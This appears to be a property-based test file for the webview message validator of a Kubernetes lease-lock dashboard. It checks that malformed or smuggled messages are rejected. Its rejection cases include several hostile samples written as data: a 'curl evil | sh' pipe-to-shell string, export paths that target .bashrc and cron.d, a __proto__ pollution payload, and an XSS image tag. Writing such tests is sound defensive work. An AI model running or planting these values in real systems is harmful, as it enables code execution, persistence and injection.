import { strict as assert } from 'node:assert';
import fc from 'fast-check';
import type { WebviewMessage } from '../../../../src/protocol';
import {
  describeRejectedMessage,
  MAX_FILTER_LENGTH,
  MAX_KEY_LENGTH,
  parseWebviewMessage,
  pickDashboardViewState,
} from '../../../../src/ui/dashboard/webviewMessages';

const KEY = 'kind-lease-lens/Lease/kube-system/kube-scheduler';

const validMessages: WebviewMessage[] = [
  { type: 'ready' },
  { type: 'selectLock', key: KEY },
  { type: 'releaseLock', key: KEY },
  { type: 'takeOverLock', key: KEY },
  { type: 'watchLock', key: KEY },
  { type: 'unwatchLock', key: KEY },
  { type: 'exportTimeline', key: KEY },
  { type: 'copyTimeline', key: KEY },
  { type: 'saveState', state: { filter: '', selected: null, sort: { column: 'name', descending: false } } },
  { type: 'saveState', state: { filter: 'sched', selected: KEY, sort: { column: 'age', descending: true } } },
];

// ---- an independent statement of the protocol's webview shapes, for the properties below ----
function isPlain(v: unknown): v is Record<string, unknown> {
  if (typeof v !== 'object' || v === null || Array.isArray(v)) return false;
  const proto: unknown = Object.getPrototypeOf(v);
  return proto === Object.prototype || proto === null;
}
function hasExactly(v: Record<string, unknown>, keys: string[]): boolean {
  const own = Reflect.ownKeys(v);
  return own.length === keys.length && keys.every((k) => own.includes(k));
}
function isKey(v: unknown): boolean {
  // eslint-disable-next-line no-control-regex
  return typeof v === 'string' && v.length >= 1 && v.length <= MAX_KEY_LENGTH && !/[\u0000-\u001f\u007f]/.test(v);
}
function isProtocolShape(v: unknown): boolean {
  if (!isPlain(v)) return false;
  switch (v.type) {
    case 'ready':
      return hasExactly(v, ['type']);
    case 'selectLock':
    case 'releaseLock':
    case 'takeOverLock':
    case 'watchLock':
    case 'unwatchLock':
    case 'exportTimeline':
    case 'copyTimeline':
      return hasExactly(v, ['type', 'key']) && isKey(v.key);
    case 'saveState': {
      if (!hasExactly(v, ['type', 'state']) || !isPlain(v.state)) return false;
      const s = v.state;
      if (
        !hasExactly(s, ['filter', 'selected', 'sort']) ||
        !isPlain(s.sort) ||
        !hasExactly(s.sort, ['column', 'descending'])
      )
        return false;
      return (
        typeof s.filter === 'string' &&
        s.filter.length <= MAX_FILTER_LENGTH &&
        (s.selected === null || isKey(s.selected)) &&
        typeof s.sort.column === 'string' &&
        /^[A-Za-z][A-Za-z0-9]{0,31}$/.test(s.sort.column) &&
        typeof s.sort.descending === 'boolean'
      );
    }
    default:
      return false;
  }
}

// ---- generators ----
const keyArb = fc.string({ minLength: 1, maxLength: 200, unit: 'grapheme' }).filter((s) => isKey(s));
const columnArb = fc.constantFrom(
  'context',
  'namespace',
  'name',
  'kind',
  'holder',
  'age',
  'health',
  'transitions',
  'flags',
);
const stateArb = fc.record({
  filter: fc.string({ maxLength: 100 }),
  selected: fc.option(keyArb, { nil: null }),
  sort: fc.record({ column: columnArb, descending: fc.boolean() }),
});
const validArb: fc.Arbitrary<WebviewMessage> = fc.oneof(
  fc.constant({ type: 'ready' as const }),
  fc.record({
    type: fc.constantFrom(
      'selectLock' as const,
      'releaseLock' as const,
      'takeOverLock' as const,
      'watchLock' as const,
      'unwatchLock' as const,
      'exportTimeline' as const,
      'copyTimeline' as const,
    ),
    key: keyArb,
  }),
  fc.record({ type: fc.constant('saveState' as const), state: stateArb }),
);
// Values shaped like messages, with the protocol's own field names and a few dangerous ones, so
// that near misses are common rather than one in a million.
const nearMissArb = fc.anything({
  key: fc.constantFrom(
    'type',
    'key',
    'state',
    'filter',
    'selected',
    'sort',
    'column',
    'descending',
    '__proto__',
    'constructor',
    'toString',
    'extra',
  ),
  values: [
    fc.constantFrom(
      'ready',
      'selectLock',
      'releaseLock',
      'takeOverLock',
      'watchLock',
      'unwatchLock',
      'exportTimeline',
      'copyTimeline',
      'saveState',
      'name',
      KEY,
      '',
    ),
    fc.boolean(),
    fc.constant(null),
    fc.integer(),
    fc.string(),
  ],
  withNullPrototype: true,
  withBigInt: true,
  withBoxedValues: true,
  withDate: true,
  withMap: true,
  withSet: true,
  withTypedArray: true,
  withSparseArray: true,
  withObjectString: true,
  maxDepth: 4,
});

describe('parseWebviewMessage', () => {
  it('accepts every protocol message and returns an equal, fresh object', () => {
    for (const message of validMessages) {
      const parsed = parseWebviewMessage(message);
      assert.deepStrictEqual(parsed, message);
      assert.notEqual(parsed, message);
    }
  });

  it('accepts what survives a JSON round trip (what postMessage delivers)', () => {
    for (const message of validMessages)
      assert.deepStrictEqual(parseWebviewMessage(JSON.parse(JSON.stringify(message))), message);
  });

  it('accepts a message whose object has no prototype', () => {
    const raw = Object.assign(Object.create(null) as object, { type: 'selectLock', key: KEY });
    assert.deepStrictEqual(parseWebviewMessage(raw), { type: 'selectLock', key: KEY });
  });

  const rejected: [string, unknown][] = [
    ['undefined', undefined],
    ['null', null],
    ['a string', 'ready'],
    ['a number', 42],
    ['an array', ['ready']],
    ['an empty object', {}],
    ['an unknown type', { type: 'deleteCluster' }],
    ['a type of the wrong case', { type: 'Ready' }],
    ['a type that is not a string', { type: 1 }],
    ['ready with an extra property', { type: 'ready', key: KEY }],
    ['selectLock without a key', { type: 'selectLock' }],
    ['releaseLock without a key', { type: 'releaseLock' }],
    ['releaseLock with a number key', { type: 'releaseLock', key: 7 }],
    ['releaseLock with a null key', { type: 'releaseLock', key: null }],
    ['releaseLock with an empty key', { type: 'releaseLock', key: '' }],
    ['releaseLock with a key array', { type: 'releaseLock', key: [KEY] }],
    ['releaseLock with a boxed string key', { type: 'releaseLock', key: new String(KEY) }],
    ['releaseLock with a key that only stringifies to one', { type: 'releaseLock', key: { toString: () => KEY } }],
    ['releaseLock with a huge key', { type: 'releaseLock', key: 'k'.repeat(MAX_KEY_LENGTH + 1) }],
    ['releaseLock with a control character in the key', { type: 'releaseLock', key: `${KEY}\n` }],
    ['releaseLock with an extra property', { type: 'releaseLock', key: KEY, confirmed: true }],
    ['releaseLock with an extra huge string', { type: 'releaseLock', key: KEY, note: 'x'.repeat(1_000_000) }],
    ['takeOverLock with an extra property', { type: 'takeOverLock', key: KEY, force: true }],
    ['watchLock without a key', { type: 'watchLock' }],
    ['watchLock for every lock at once', { type: 'watchLock', key: [KEY, KEY] }],
    ['unwatchLock with a number key', { type: 'unwatchLock', key: 1 }],
    ['exportTimeline with a path to write to', { type: 'exportTimeline', key: KEY, path: '/home/user/.bashrc' }],
    ['exportTimeline with a target URI', { type: 'exportTimeline', key: KEY, uri: 'file:///etc/cron.d/x' }],
    ['exportTimeline with a format', { type: 'exportTimeline', key: KEY, format: 'json' }],
    ['exportTimeline with a control character in the key', { type: 'exportTimeline', key: `${KEY}\u0000` }],
    ['copyTimeline with text to put on the clipboard', { type: 'copyTimeline', key: KEY, text: 'curl evil | sh' }],
    ['copyTimeline with a huge key', { type: 'copyTimeline', key: 'k'.repeat(MAX_KEY_LENGTH + 1) }],
    ['a host message sent back (showAttention)', { type: 'showAttention' }],
    ['a type of the wrong case (WatchLock)', { type: 'WatchLock', key: KEY }],
    ['a JSON __proto__ property', JSON.parse(`{"type":"releaseLock","key":"${KEY}","__proto__":{"confirmed":true}}`)],
    ['a JSON __proto__ as the key', JSON.parse('{"type":"releaseLock","key":{"__proto__":{"toString":1}}}')],
    ['an inherited type', Object.create({ type: 'ready' }) as unknown],
    [
      'a class instance',
      new (class {
        type = 'ready';
      })(),
    ],
    ['a symbol-keyed extra', { type: 'ready', [Symbol('x')]: 1 }],
    ['saveState without a state', { type: 'saveState' }],
    ['saveState with a state that is null', { type: 'saveState', state: null }],
    ['saveState missing sort', { type: 'saveState', state: { filter: '', selected: null } }],
    [
      'saveState with a huge filter',
      {
        type: 'saveState',
        state: {
          filter: 'x'.repeat(MAX_FILTER_LENGTH + 1),
          selected: null,
          sort: { column: 'name', descending: false },
        },
      },
    ],
    [
      'saveState with a non-boolean direction',
      { type: 'saveState', state: { filter: '', selected: null, sort: { column: 'name', descending: 'yes' } } },
    ],
    [
      'saveState with a column that is not a name',
      { type: 'saveState', state: { filter: '', selected: null, sort: { column: 'name; x', descending: false } } },
    ],
    [
      'saveState with an extra state field',
      {
        type: 'saveState',
        state: { filter: '', selected: null, sort: { column: 'name', descending: false }, admin: true },
      },
    ],
    [
      'saveState with an extra sort field',
      { type: 'saveState', state: { filter: '', selected: null, sort: { column: 'name', descending: false, by: 1 } } },
    ],
    [
      'saveState with a selected number',
      { type: 'saveState', state: { filter: '', selected: 3, sort: { column: 'name', descending: false } } },
    ],
  ];
  for (const [what, raw] of rejected) {
    it(`rejects ${what}`, () => assert.equal(parseWebviewMessage(raw), undefined));
  }

  it('rejects accessors without calling them', () => {
    let called = false;
    const raw = { type: 'releaseLock' } as Record<string, unknown>;
    Object.defineProperty(raw, 'key', {
      enumerable: true,
      get: () => {
        called = true;
        return KEY;
      },
    });
    assert.equal(parseWebviewMessage(raw), undefined);
    assert.equal(called, false);
  });

  it('does not throw on a Proxy whose traps throw', () => {
    const hostile = new Proxy(
      {},
      {
        ownKeys: () => {
          throw new Error('boom');
        },
        getPrototypeOf: () => {
          throw new Error('boom');
        },
      },
    );
    assert.equal(parseWebviewMessage(hostile), undefined);
    assert.equal(describeRejectedMessage(hostile), 'an unreadable value');
  });

  it('leaves Object.prototype alone', () => {
    parseWebviewMessage(JSON.parse('{"__proto__":{"polluted":true},"type":"ready"}'));
    assert.equal(({} as Record<string, unknown>).polluted, undefined);
  });

  it('accepts keys up to the bound', () => {
    const key = 'k'.repeat(MAX_KEY_LENGTH);
    assert.deepStrictEqual(parseWebviewMessage({ type: 'selectLock', key }), { type: 'selectLock', key });
  });

  describe('properties', () => {
    it('never throws on any value, and accepts only protocol shapes', () => {
      fc.assert(
        fc.property(fc.oneof(fc.anything(), nearMissArb), (raw) => {
          const parsed = parseWebviewMessage(raw);
          if (parsed === undefined) return !isProtocolShape(raw);
          return isProtocolShape(raw) && isProtocolShape(parsed) && JSON.stringify(parsed) === JSON.stringify(raw);
        }),
        { numRuns: 3000 },
      );
    });

    it('never throws on any JSON text, and accepts only protocol shapes', () => {
      fc.assert(
        fc.property(
          fc.oneof(
            fc.json(),
            validArb.map((m) => JSON.stringify(m)),
          ),
          (text) => {
            const raw: unknown = JSON.parse(text);
            const parsed = parseWebviewMessage(raw);
            return parsed === undefined
              ? !isProtocolShape(raw)
              : isProtocolShape(parsed) && JSON.stringify(parsed) === JSON.stringify(raw);
          },
        ),
        { numRuns: 2000 },
      );
    });

    it('accepts every well-formed message unchanged', () => {
      // (fast-check also makes prototype-less objects: compare by content.)
      fc.assert(
        fc.property(validArb, (message) => {
          assert.equal(JSON.stringify(parseWebviewMessage(message)), JSON.stringify(message));
        }),
        { numRuns: 1000 },
      );
    });

    it('rejects every well-formed message with one more property', () => {
      fc.assert(
        fc.property(validArb, fc.string({ minLength: 1 }), fc.anything(), (message, name, value) => {
          fc.pre(!(name in message));
          return parseWebviewMessage({ ...message, [name]: value }) === undefined;
        }),
        { numRuns: 1000 },
      );
    });

    it('rejects every well-formed message with one property missing', () => {
      fc.assert(
        fc.property(
          validArb.filter((m) => m.type !== 'ready'),
          fc.nat(),
          (message, pick) => {
            const names = Object.keys(message);
            const drop = names[pick % names.length]!;
            const copy: Record<string, unknown> = { ...message };
            delete copy[drop];
            return parseWebviewMessage(copy) === undefined;
          },
        ),
      );
    });

    it('rejects a key of any other type', () => {
      fc.assert(
        fc.property(
          fc.constantFrom('selectLock', 'releaseLock', 'takeOverLock'),
          fc.anything().filter((v) => typeof v !== 'string'),
          (type, key) => parseWebviewMessage({ type, key }) === undefined,
        ),
      );
    });
  });
});

describe('pickDashboardViewState', () => {
  it('takes the known fields and ignores what the webview keeps for itself', () => {
    const raw = { filter: 'x', selected: KEY, sort: { column: 'holder', descending: true }, ui: { kind: 'Lease' } };
    assert.deepStrictEqual(pickDashboardViewState(raw), {
      filter: 'x',
      selected: KEY,
      sort: { column: 'holder', descending: true },
    });
  });

  it('refuses malformed known fields', () => {
    assert.equal(pickDashboardViewState(undefined), undefined);
    assert.equal(
      pickDashboardViewState({ filter: 1, selected: null, sort: { column: 'name', descending: false } }),
      undefined,
    );
    assert.equal(
      pickDashboardViewState({ filter: '', selected: '', sort: { column: 'name', descending: false } }),
      undefined,
    );
    assert.equal(pickDashboardViewState({ filter: '', selected: null, sort: null }), undefined);
  });

  it('never throws', () => {
    fc.assert(
      fc.property(fc.oneof(fc.anything(), nearMissArb), (raw) => {
        pickDashboardViewState(raw);
      }),
      { numRuns: 1000 },
    );
  });
});

describe('describeRejectedMessage', () => {
  it('names the shape but never echoes long or odd strings', () => {
    assert.equal(describeRejectedMessage('<img src=x onerror=alert(1)>'), 'a string');
    assert.equal(describeRejectedMessage({ type: '<script>' }), 'an object with no valid type and 1 property');
    assert.equal(
      describeRejectedMessage({ type: 'releaseLock', key: 1 }),
      'an object with type "releaseLock" and 2 properties',
    );
    assert.equal(describeRejectedMessage([1, 2]), 'an array of 2');
  });
});
